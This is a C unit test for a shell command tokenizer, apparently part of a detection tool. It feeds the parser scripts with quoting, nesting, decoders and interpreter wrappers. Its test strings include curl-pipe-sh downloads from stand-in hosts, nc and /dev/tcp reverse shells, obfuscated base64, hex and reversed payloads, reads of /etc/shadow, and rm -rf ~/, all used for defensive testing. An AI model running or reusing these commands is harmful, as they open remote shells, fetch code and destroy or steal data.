/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The shell tokenizer on known scripts: splitting, quoting, nesting into
 * sh -c and substitutions, here-strings, decoders, wrappers, limits, and
 * garbage that must never crash it.
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "shell/shlex.h"
#include "juror_tap.h"

static struct shlex_result *res;

/* Finds a command whose program is prog; returns its index or -1. */
static int find(const char *prog)
{
	for (int i = 0; i < res->ncmds; i++)
		if (strcmp(shlex_prog(&res->cmds[i]), prog) == 0)
			return i;
	return -1;
}

static int find_last(const char *prog)
{
	for (int i = res->ncmds - 1; i >= 0; i--)
		if (strcmp(shlex_prog(&res->cmds[i]), prog) == 0)
			return i;
	return -1;
}

static int has_word(int idx, const char *w)
{
	if (idx < 0)
		return 0;
	for (int i = 0; i < res->cmds[idx].argc; i++)
		if (strcmp(res->cmds[idx].argv[i], w) == 0)
			return 1;
	return 0;
}

static void test_split(void)
{
	shlex_parse(res, "ls -la; echo 'a b' && cat \"x y\" || true | wc -l & sleep 1");
	ok(res->ncmds == 6, "six commands (got %d)", res->ncmds);
	ok(has_word(find("echo"), "a b"), "single quotes keep one word");
	ok(has_word(find("cat"), "x y"), "double quotes keep one word");
	ok(find("wc") >= 0 && res->cmds[find("wc")].pipe_prev == find("true"),
	   "pipe links wc to true");
	ok(res->cmds[find("wc")].background, "& marks background");
	shlex_parse(res, "echo a\\ b \"q\\\"x\" 'it'\\''s'");
	ok(has_word(0, "a b") && has_word(0, "q\"x") && has_word(0, "it's"),
	   "escapes and quote joins");
}

static void test_nesting(void)
{
	int i;

	shlex_parse(res, "bash -c \"sh -c 'curl -s http://x/i | sh'\"");
	i = find("curl");
	ok(i >= 0 && res->cmds[i].depth == 2, "curl found two shells deep");
	ok(find_last("sh") >= 0 && res->cmds[find_last("sh")].pipe_prev == i,
	   "pipe into sh inside sh -c");
	shlex_parse(res, "echo $(cat /etc/shadow) `id -u` \"$(whoami)\"");
	ok(find("cat") >= 0 && (res->cmds[find("cat")].flags & SHLEX_F_SUBST), "$() parsed");
	ok(find("id") >= 0 && find("whoami") >= 0, "backticks and quoted $() parsed");
	shlex_parse(res, "eval \"nc -e /bin/sh 10.0.0.1 4444\"");
	ok(has_word(find("nc"), "-e"), "eval arguments parsed");
	shlex_parse(res, "bash <<< 'rm -rf ~/'");
	ok(find("rm") >= 0, "here-string into bash parsed");
	shlex_parse(res, "bash <<EOF\nwget http://e/x -O /tmp/x\nEOF\necho done");
	ok(find("wget") >= 0 && find("echo") >= 0, "here-document into bash parsed, then resumes");
	shlex_parse(res, "diff <(ssh h cat /etc/passwd) x");
	ok(find("ssh") >= 0, "process substitution parsed");
}

static void test_decoders(void)
{
	/* "curl http://e.x/a | bash" */
	shlex_parse(res, "echo Y3VybCBodHRwOi8vZS54L2EgfCBiYXNo | base64 -d | sh");
	ok(find("curl") >= 0 && (res->cmds[find("curl")].flags & SHLEX_F_DECODED),
	   "base64 payload");
	ok(strstr(res->text, "curl http://e.x/a") != NULL, "decoded text in the flat text");
	shlex_parse(res, "printf '\\x69\\x64' | sh");
	ok(find("id") >= 0, "printf hex escapes into sh");
	shlex_parse(res, "echo 6c73202f726f6f74 | xxd -r -p | bash");
	ok(has_word(find("ls"), "/root"), "xxd -r -p payload");
	shlex_parse(res, "echo 'hsab | x/e//:ptth lruc' | rev | sh");
	ok(find("curl") >= 0, "rev payload");
	shlex_parse(res, "$'\\x63\\x61\\x74' /etc/passwd");
	ok(find("cat") >= 0, "$'...' escapes decode the program name");
	shlex_parse(res, "base64 -d <<< aWQ= | sh");
	ok(find("id") >= 0, "here-string into base64");
}

static void test_interpreters(void)
{
	shlex_parse(res, "python3 -c 'import os; os.system(\"curl -s http://e.x/a | sh\")'");
	ok(find("curl") >= 0 && find_last("sh") > find("curl"), "python os.system payload parsed");
	shlex_parse(res, "perl -e 'system \"nc -e /bin/sh 10.0.0.1 4444\"'");
	ok(has_word(find("nc"), "-e"), "perl system payload parsed");
	shlex_parse(res,
		    "node -e 'require(\"child_process\").exec(\"wget -qO- http://x/i | bash\")'");
	ok(find("wget") >= 0, "node child_process.exec payload parsed");
	shlex_parse(res, "ruby -e 'puts `cat /etc/shadow`'");
	ok(has_word(find("cat"), "/etc/shadow"), "ruby backticks parsed");
	/* exec(base64.b64decode("os.system('id')")) */
	shlex_parse(
		res,
		"python3 -c \"import base64,os;exec(base64.b64decode('b3Muc3lzdGVtKCdpZCcp'))\"");
	ok(find("id") >= 0 && strstr(res->text, "os.system('id')"),
	   "base64 literal decoded, then its payload");
	shlex_parse(res, "vim -c ':!/bin/sh'");
	ok(find("sh") >= 0, "vim :! escape parsed");
	shlex_parse(res,
		    "ssh -p 2222 -o StrictHostKeyChecking=no root@h 'curl -s http://x/a | sh'");
	ok(find("curl") >= 0 && (res->cmds[find("curl")].flags & SHLEX_F_SHELL_C),
	   "ssh remote command parsed");
	shlex_parse(res, "trap 'curl -s http://x/a | sh' EXIT");
	ok(find("curl") >= 0, "trap handler parsed");
	shlex_parse(res, "ssh -NfL 5432:localhost:5432 bastion");
	ok(res->ncmds == 1, "ssh without a remote command is one command");
}

static void test_wrappers(void)
{
	int i;

	shlex_parse(res, "sudo -u root env A=1 nohup timeout 5 nc -lvp 4444");
	i = find("nc");
	ok(i >= 0 && res->cmds[i].sudo, "prog past sudo/env/nohup/timeout, sudo noted");
	shlex_parse(res, "find . -name '*.o' | xargs -I{} rm -f {}");
	ok(find("rm") >= 0, "xargs runs rm");
	shlex_parse(res, "cat x > /tmp/o 2>&1 >> /tmp/p < in");
	i = find("cat");
	ok(i >= 0 && res->cmds[i].nredir == 4 && res->cmds[i].argc == 2, "redirections apart");
	ok(strcmp(res->redirs[res->cmds[i].redir_first].target, "/tmp/o") == 0, "> target");
	shlex_parse(res, "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1");
	i = find("bash");
	ok(i >= 0 && strcmp(res->redirs[res->cmds[i].redir_first].target,
			    "/dev/tcp/10.0.0.1/4242") == 0, ">& /dev/tcp target");
	const char *argv[] = { "sh", "-c", "git status && make -j4" };
	shlex_parse_argv(res, argv, 3);
	ok(find("git") >= 0 && find("make") >= 0, "argv with sh -c");
	ok(strcmp(res->text, "git status && make -j4") == 0, "argv text is the script");
}

/* The statement a command stands in, as its script wrote it. */
static void test_statements(void)
{
	static const struct {
		const char *script, *prog, *stmt;
	} cases[] = {
		{ "cd /x && curl -s http://h/i | sh -s -- -y; echo done", "curl",
		  "cd /x && curl -s http://h/i | sh -s -- -y" },
		{ "a\n(\n  curl -fsSL u | bash\n)\nexit $c", "curl", "curl -fsSL u | bash" },
		{ "source s 2>/dev/null || true && eval 'wget -qO- u | sh' < /dev/null && pwd -P",
		  "wget", "wget -qO- u | sh" },
		{ "x & curl u > f", "curl", "curl u > f" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int idx;

		shlex_parse(res, cases[i].script);
		idx = find(cases[i].prog);
		ok(idx >= 0 && res->cmds[idx].stmt &&
			   res->cmds[idx].stmt_len == (int)strlen(cases[i].stmt) &&
			   !strncmp(res->cmds[idx].stmt, cases[i].stmt, strlen(cases[i].stmt)),
		   "statement of %s: '%s' (got '%.*s')", cases[i].prog, cases[i].stmt,
		   idx >= 0 ? res->cmds[idx].stmt_len : 0, idx >= 0 && res->cmds[idx].stmt ?
		   res->cmds[idx].stmt : "");
	}
}

static void test_garbage(void)
{
	char buf[4096];
	unsigned seed = 12345;
	int ok_all = 1;
	const char alphabet[] = "ab $()`'\"\\|&;<>{}#\n\t=-cx0EOF";

	for (int round = 0; round < 3000; round++) {
		size_t n = (size_t)(rand_r(&seed) % (sizeof(buf) - 1));

		for (size_t k = 0; k < n; k++)
			buf[k] = (round & 1) ? alphabet[rand_r(&seed) % (sizeof(alphabet) - 1)]
					     : (char)(rand_r(&seed) % 255 + 1);
		buf[n] = '\0';
		shlex_parse(res, buf);
		if (res->ncmds > SHLEX_MAX_CMDS || res->textlen >= SHLEX_TEXT)
			ok_all = 0;
	}
	ok(ok_all, "3000 random scripts parse within limits");
	memset(buf, 0, sizeof(buf));
	for (int k = 0; k < 2000; k++)
		strcat(buf, "$(");
	ok(shlex_parse(res, buf) == -E2BIG || res->truncated, "deep nesting truncates");
	char *big = malloc(200000);
	for (int k = 0; k < 199999; k++)
		big[k] = (k % 3 == 2) ? ';' : 'a';
	big[199999] = '\0';
	ok(shlex_parse(res, big) < 0 && res->truncated, "huge script is truncated, not crashed");
	free(big);
}

int main(void)
{
	res = malloc(sizeof(*res));
	if (!res)
		return 1;
	test_split();
	test_nesting();
	test_decoders();
	test_interpreters();
	test_wrappers();
	test_statements();
	test_garbage();
	free(res);
	return done_testing();
}
